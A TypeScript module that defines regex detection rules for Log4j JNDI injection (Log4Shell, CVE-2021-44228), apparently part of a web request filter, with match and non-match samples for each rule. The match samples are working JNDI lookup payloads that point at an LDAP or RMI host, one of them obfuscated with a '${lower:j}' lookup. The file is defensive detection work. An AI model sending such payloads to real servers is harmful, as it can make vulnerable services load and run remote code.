import { ANYWHERE, type AttackRule } from '../attack-rule.js';

/** Look-ups that Log4j 2 answered in whatever it logged (CVE-2021-44228 and its kin), with the disguises of 2021. */
export const JNDI_INJECTION: readonly AttackRule[] = [
  {
    label: 'jndi-injection',
    places: ANYWHERE,
    pattern: /\$\{ ?jndi ?:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|http)/,
    hit: 'x=%24%7Bjndi%3Aldap://198.18.0.66/a%7D',
    miss: 'q=what+is+jndi:+a+guide',
  },
  {
    label: 'jndi-injection',
    places: ANYWHERE,
    pattern:
      /\$\{(?:(?:lower|upper|env|sys|date|main|ctx|java|web|bundle|base64|k8s|docker|map|sd|marker|event):|:{1,3}-|\$\{)/,
    hit: 'x=${${lower:j}ndi:rmi://198.18.0.66/o}',
    miss: 'x=${campaign}:lower',
  },
];
